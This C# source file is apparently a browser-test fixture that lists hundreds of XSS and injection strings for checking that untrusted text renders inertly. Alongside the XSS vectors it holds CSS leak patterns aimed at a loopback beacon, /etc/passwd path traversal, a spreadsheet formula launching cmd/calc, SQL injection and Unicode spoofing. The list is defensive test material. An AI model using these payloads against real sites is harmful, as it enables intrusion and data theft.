using System.Text;

namespace AiBotKit.Tests.Browser;

/// <summary>
/// Texts that would run, fetch, navigate or mislead if any page took them for more than text (S-X2): our own list, and the ways in which such texts are written
/// otherwise. Every one that can run calls <c>alert</c>; every one that can fetch asks 127.0.0.1:9, where nobody listens.
/// </summary>
internal static class XssPayloads
{
    private const string Beacon = "http://127.0.0.1:9/";

    public static IReadOnlyList<string> All { get; } = [.. Tags().Concat(Handlers()).Concat(Links()).Concat(Markdown()).Concat(Encoded()).Concat(Mutations()).Concat(Styles()).Concat(Misleading()).Concat(HostileTexts.All).Distinct(StringComparer.Ordinal)];

    private static IEnumerable<string> Tags() =>
    [
        "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script >alert(1)</script >", "<script\n>alert(1)</script>", "<script/x>alert(1)</script>", "<script src=" + Beacon + "a.js></script>",
        "<script src=//127.0.0.1:9/b.js></script>", "<script type=module>import '" + Beacon + "m.js'</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1);//<</script>",
        "<script>//<![CDATA[\nalert(1)//]]></script>", "<script nonce=x>alert(1)</script>", "<script async src='data:text/javascript,alert(1)'></script>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>",
        "</script><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
        "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<iframe src=" + Beacon + ">", "<iframe src=data:text/html,<script>alert(1)</script>>", "<frameset onload=alert(1)>", "<object data=" + Beacon + ">",
        "<object data=javascript:alert(1)>", "<embed src=" + Beacon + ">", "<embed src=javascript:alert(1)>", "<applet code=x onerror=alert(1)>", "<base href=" + Beacon + ">", "<base href=javascript:/a/-alert(1)///////>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<meta http-equiv=refresh content='0;url=" + Beacon + "'>", "<meta http-equiv=Content-Security-Policy content=\"default-src *\">", "<meta name=referrer content=unsafe-url>",
        "<link rel=stylesheet href=" + Beacon + "s.css>", "<link rel=import href=" + Beacon + ">", "<link rel=preload as=script href=" + Beacon + ">", "<link rel=prefetch href=" + Beacon + ">", "<link rel=dns-prefetch href=//x.invalid>", "<link rel=icon href=" + Beacon + ">",
        "<form action=javascript:alert(1)><input type=submit>", "<form id=x></form><button form=x formaction=javascript:alert(1)>X</button>", "<isindex action=javascript:alert(1)>", "<img src=" + Beacon + "i.png>", "<img srcset='" + Beacon + "i.png 1x'>",
        "<picture><source srcset=" + Beacon + "p.png><img></picture>", "<video src=" + Beacon + "v.mp4 autoplay></video>", "<video poster=" + Beacon + "p.png></video>", "<audio src=" + Beacon + "a.ogg autoplay></audio>", "<track src=" + Beacon + "t.vtt>",
        "<input type=image src=" + Beacon + "n.png>", "<body background=" + Beacon + "b.png>", "<table background=" + Beacon + "t.png>", "<svg><image href=" + Beacon + "s.png /></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x'/></svg>",
        "<svg><script>alert(1)</script></svg>", "<svg><script href=data:text/javascript,alert(1) /></svg>", "<svg><a xlink:href=javascript:alert(1)><text y=20>X</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set attributeName=onmouseover to=alert(1)>",
        "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>", "<math href=javascript:alert(1)>X</math>", "<math><maction actiontype=statusline#x xlink:href=javascript:alert(1)>X</maction></math>", "<portal src=" + Beacon + ">", "<fencedframe src=" + Beacon + ">",
        "<xss id=x tabindex=1 onfocus=alert(1)></xss>", "<dialog open onclose=alert(1)>", "<slot onslotchange=alert(1)>", "<template shadowrootmode=open><script>alert(1)</script></template>", "<noembed><img src=x onerror=alert(1)></noembed>", "<plaintext>", "<xmp><script>alert(1)</script></xmp>",
    ];

    private static IEnumerable<string> Handlers()
    {
        string[] tags = ["img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "marquee", "select autofocus", "a href=#x tabindex=0", "div style=animation-name:x", "button autofocus"];
        string[] handlers = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onpointerenter", "onanimationstart", "onclick"];
        return tags.SelectMany(tag => handlers.Select(handler => $"<{tag} {handler}=alert(1)>"));
    }

    private static IEnumerable<string> Links()
    {
        string[] schemes = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\u0001javascript:alert(1)", " javascript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "blob:http://127.0.0.1/x", "file:///etc/passwd", "view-source:" + Beacon, "intent://x#Intent;scheme=http;end", "wa.me/\"onclick=alert(1)"];
        return schemes.SelectMany(scheme => new[] { scheme, $"<a href=\"{scheme}\">X</a>", $"[X]({scheme})" })
            .Concat(["https://x.invalid/<script>alert(1)</script>", "https://x.invalid/\"><img src=x onerror=alert(1)>", "https://x.invalid/'onmouseover='alert(1)", "https://x.invalid/?q=javascript:alert(1)", "https://javascript:alert(1)@x.invalid/", "https://x.invalid\u202E/moc.elgoog", "http://127.0.0.1:9/auto.png", "www.x.invalid/<svg/onload=alert(1)>", "https://xn--80ak6aa92e.com/", "https://x.invalid/%0d%0aSet-Cookie:x=1", "mailto:a@b.invalid?body=<script>alert(1)</script>", "tel:+1<script>alert(1)</script>", "a@b.invalid\"onclick=alert(1)", "+1555\"onclick=\"alert(1)"]);
    }

    private static IEnumerable<string> Markdown() =>
    [
        "![x](" + Beacon + "md1.png)", "![x][y]\n\n[y]: " + Beacon + "md2.png", "[x]: javascript:alert(1)\n[x]", "<javascript:alert(1)>", "[a](<javascript:alert(1)>)", "[a](javascript&#58;alert(1))", "`<img src=x onerror=alert(1)>`", "```html\n<script>alert(1)</script>\n```", "> <img src=x onerror=alert(1)>",
        "# <script>alert(1)</script>", "* <script>alert(1)</script>", "|<script>alert(1)</script>|\n|-|", "*<b onmouseover=alert(1)>bold*", "_<i onclick=alert(1)>i_", "~<s onclick=alert(1)>s~", "```<img src=x onerror=alert(1)>```", "*_~`<svg onload=alert(1)>`~_*", "* [x](javascript:alert(1)) *", "~~~\n<script>alert(1)</script>\n~~~",
        "[[1]]<script>alert(1)</script>[[2]]", "[[1|<img src=x onerror=alert(1)>]]", "{{constructor.constructor('alert(1)')()}}", "{{7*7}}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "@(alert(1))", "@{alert(1);}", "@Html.Raw(\"<script>alert(1)</script>\")", "[(${alert(1)})]", "{%raw%}<script>alert(1)</script>{%endraw%}",
    ];

    private static IEnumerable<string> Encoded()
    {
        string[] plain = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>"];
        return plain.SelectMany(text => new[]
        {
            Uri.EscapeDataString(text),
            Uri.EscapeDataString(Uri.EscapeDataString(text)),
            System.Net.WebUtility.HtmlEncode(text),
            System.Net.WebUtility.HtmlEncode(System.Net.WebUtility.HtmlEncode(text)),
            string.Concat(text.Select(c => $"&#{(int)c};")),
            string.Concat(text.Select(c => $"&#x{(int)c:x}")),
            string.Concat(text.Select(c => $"\\u{(int)c:x4}")),
            string.Concat(text.Select(c => $"\\x{(int)c:x2}")),
            Convert.ToBase64String(Encoding.UTF8.GetBytes(text)),
            text.Replace('<', '\uFF1C').Replace('>', '\uFF1E'),
            text.Replace("<", "\u02C2", StringComparison.Ordinal).Replace(">", "\u02C3", StringComparison.Ordinal),
            text.Replace("<", "+ADw-", StringComparison.Ordinal).Replace(">", "+AD4-", StringComparison.Ordinal),
            text.Replace("<", "<\u200B", StringComparison.Ordinal),
            text.Replace("<", "\u00BC", StringComparison.Ordinal),
            text.ToUpperInvariant(),
            text.Replace(" ", "\u000C", StringComparison.Ordinal),
            text.Replace("=", "\u00A0=", StringComparison.Ordinal),
        });
    }

    private static IEnumerable<string> Mutations() =>
    [
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<svg><title><a id=\"</title><img src=x onerror=alert(1)>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>", "<select><style></select><img src=x onerror=alert(1)></style>", "<template><style></template><img src=x onerror=alert(1)></style>", "<a title=\"`><img src=x onerror=alert(1)>\">", "<div><!--><img src=x onerror=alert(1)>--></div>",
        "<!--[if IE]><script>alert(1)</script><![endif]-->", "<?xml version=\"1.0\"?><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<!DOCTYPE x [<!ENTITY a '<script>alert(1)</script>'>]>&a;", "<b><i><u><a><table><tr><td><script>alert(1)</script>", "<p><table><p><img src=x onerror=alert(1)>", "<title><svg onload=alert(1)></title>", "<desc><img src=x onerror=alert(1)></desc>",
        "<img src=\"x` `<script>alert(1)</script>\"` `>", "<img/src/onerror=alert(1)>", "<img\u00A0src=x\u00A0onerror=alert(1)>", "<img src=x onerror\n=alert(1)>", "<img src=x onerror=\"alert`1`\">", "<a\0href=javascript:alert(1)>X</a>", "<sc\0ript>alert(1)</sc\0ript>", "<svg/onload=alert(1)//", "<svg onload=alert(1)", "<img src='x' onerror='alert(1)", "\"onfocus=alert(1) autofocus x=\"", "' onmouseover='alert(1)' y='", "` onclick=alert(1) `", "x\" style=\"background:url(" + Beacon + "q.png)",
        "<component :is=\"'script'\">alert(1)</component>", "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>", "<div ng-app ng-csp>{{$eval.constructor('alert(1)')()}}</div>", "<div x-data x-init=alert(1)>", "<div hx-get=" + Beacon + " hx-trigger=load>", "<button data-open=\"takeover-help\">", "<a data-enhance-nav=false href=javascript:alert(1)>", "<!--Blazor:{\"type\":\"server\",\"sequence\":0}-->", "<blazor-ssr><template>x</template></blazor-ssr>",
    ];

    private static IEnumerable<string> Styles() =>
    [
        "<style>@import '" + Beacon + "c.css';</style>", "<style>*{background:url(" + Beacon + "c.png)}</style>", "<div style=background:url(" + Beacon + "d.png)>", "<div style=\"behavior:url(x)\">", "<div style=width:expression(alert(1))>", "<div style=\"-moz-binding:url(" + Beacon + ")\">", "<style>@font-face{font-family:x;src:url(" + Beacon + "f.woff)}*{font-family:x}</style>",
        "<style>input[value^=a]{background:url(" + Beacon + "leak)}</style>", "<div style=\"position:fixed;inset:0;z-index:9999\">Sign in again</div>", "};alert(1);{", "*/alert(1)/*", "url(javascript:alert(1))", "\\3c script\\3e alert(1)\\3c/script\\3e", "</style><img src=x onerror=alert(1)>", "<svg><style>@import '" + Beacon + "e.css'</style></svg>",
    ];

    private static IEnumerable<string> Misleading() =>
    [
        "\u202Egnp.exe\u202C", "\u202Dabc\u202E<script>alert(1)</script>", "\u2066<img src=x onerror=alert(1)>\u2069", "\u2067right to left\u2069 <script>alert(1)</script>", "\u200Bzero\u200Cwidth\u200Dtext\uFEFF<b>", "\u00AD<scr\u00ADipt>alert(1)</script>", "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309<svg onload=alert(1)>", "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67<img src=x onerror=alert(1)>",
        "\u2028<script>alert(1)</script>\u2029", "\u0085<script>alert(1)</script>", "../../../../etc/passwd", "..\\..\\windows\\<svg onload=alert(1)>.svg", "evil.html;.pdf", "C:\\<script>alert(1)</script>.doc", "file name\"; filename=\"<script>alert(1)</script>.html", "\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>", "BEGIN:VCARD\nFN:<script>alert(1)</script>\nURL:javascript:alert(1)\nEND:VCARD",
        "=cmd|'/c calc'!A1", "@SUM(1+1)*cmd|'calc'!A1", "'; DROP TABLE messages; --", "\" OR 1=1 --", "%00<script>alert(1)</script>", "\\\"><script>alert(1)</script>", "\\';alert(1);//", "null", "undefined", "__proto__", "constructor", "[object Object]", "NaN", "{\"$type\":\"System.Object\"}", "<b>not bold</b>",
    ];
}
